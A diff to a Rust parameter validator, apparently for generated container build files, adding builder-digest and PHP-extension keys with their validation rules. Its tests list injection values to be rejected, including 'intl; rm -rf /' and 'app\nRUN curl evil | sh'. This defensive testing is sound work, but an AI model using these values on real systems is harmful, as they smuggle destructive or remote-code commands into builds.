@@ -19,15 +19,19 @@ pub enum ParamKey {
     Start,
     Version,
     Digest,
+    BuilderDigest,
+    PhpExtensions,
 }
 
 impl ParamKey {
-    pub const ALL: [ParamKey; 5] = [
+    pub const ALL: [ParamKey; 7] = [
         ParamKey::AppName,
         ParamKey::Port,
         ParamKey::Start,
         ParamKey::Version,
         ParamKey::Digest,
+        ParamKey::BuilderDigest,
+        ParamKey::PhpExtensions,
     ];
 
     pub fn as_str(self) -> &'static str {
@@ -37,6 +41,8 @@ impl ParamKey {
             ParamKey::Start => "start",
             ParamKey::Version => "version",
             ParamKey::Digest => "digest",
+            ParamKey::BuilderDigest => "builder_digest",
+            ParamKey::PhpExtensions => "php_extensions",
         }
     }
 
@@ -52,6 +58,8 @@ impl ParamKey {
             ParamKey::Start => "entry point: script, module or command with its arguments",
             ParamKey::Version => "runtime version, where the image family offers several",
             ParamKey::Digest => "sha256 digest to pin the final image to (empty: pin by tag)",
+            ParamKey::BuilderDigest => "sha256 digest to pin the build stage's image to",
+            ParamKey::PhpExtensions => "PHP extensions to build into the image, comma-separated",
         }
     }
 
@@ -59,14 +67,19 @@ impl ParamKey {
     pub fn rule(self) -> &'static str {
         match self {
             ParamKey::AppName => {
-                "1-64 characters: lowercase letters, digits, '.', '_' or '-', starting with a letter or digit"
+                "1-64 characters: letters, digits, '.', '_' or '-', starting with a letter or digit"
             }
-            ParamKey::Port => "a whole number from 1 to 65535",
+            ParamKey::Port => "a whole number from 1 to 65535, without leading zeros",
             ParamKey::Start => {
                 "words of letters, digits and . _ - / : = @ , + separated by single spaces; no quotes, newlines or shell characters"
             }
             ParamKey::Version => "a version such as 3.13: digits and dots",
-            ParamKey::Digest => "empty, or sha256: followed by 64 lowercase hex digits",
+            ParamKey::Digest | ParamKey::BuilderDigest => {
+                "empty, or sha256: followed by 64 lowercase hex digits"
+            }
+            ParamKey::PhpExtensions => {
+                "extension names (lowercase letters, digits, '_') separated by commas, e.g. intl,pdo_pgsql"
+            }
         }
     }
 
@@ -77,14 +90,26 @@ impl ParamKey {
                     && value
                         .bytes()
                         .next()
-                        .is_some_and(|b| b.is_ascii_lowercase() || b.is_ascii_digit())
-                    && value.bytes().all(|b| {
-                        b.is_ascii_lowercase() || b.is_ascii_digit() || b"._-".contains(&b)
-                    })
+                        .is_some_and(|b| b.is_ascii_alphanumeric())
+                    && value
+                        .bytes()
+                        .all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b))
             }
             ParamKey::Port => {
+                // A leading zero would read as octal in some probes and tools: refuse it.
                 value.bytes().all(|b| b.is_ascii_digit())
+                    && !value.starts_with('0')
                     && value.parse::<u32>().is_ok_and(|p| (1..=65535).contains(&p))
+            }
+            ParamKey::PhpExtensions => {
+                value.is_empty()
+                    || (value.len() <= 400
+                        && value.split(',').all(|name| {
+                            !name.is_empty()
+                                && name.bytes().all(|b| {
+                                    b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_'
+                                })
+                        }))
             }
             ParamKey::Start => {
                 !value.is_empty()
@@ -102,7 +127,7 @@ impl ParamKey {
                     && !value.starts_with('.')
                     && !value.ends_with('.')
             }
-            ParamKey::Digest => {
+            ParamKey::Digest | ParamKey::BuilderDigest => {
                 value.is_empty()
                     || value.strip_prefix("sha256:").is_some_and(|hex| {
                         hex.len() == 64
@@ -213,9 +238,11 @@ mod tests {
             (ParamKey::Port, "0"),
             (ParamKey::Port, "65536"),
             (ParamKey::Port, "+80"),
+            (ParamKey::Port, "080"),
+            (ParamKey::PhpExtensions, "intl; rm -rf /"),
+            (ParamKey::PhpExtensions, "Intl"),
             (ParamKey::Port, ""),
             (ParamKey::AppName, "app\nRUN curl evil | sh"),
-            (ParamKey::AppName, "App"),
             (ParamKey::AppName, "-app"),
             (ParamKey::AppName, ""),
             (ParamKey::Start, "app.py\"]\nUSER root"),
@@ -240,6 +267,7 @@ mod tests {
         let err = Params::default().set("colour", "red").unwrap_err();
         let text = err.to_string();
         assert!(text.contains("colour") && text.contains("app_name, port, start, version, digest"));
+        assert!(text.contains("builder_digest, php_extensions"));
     }
 
     #[test]
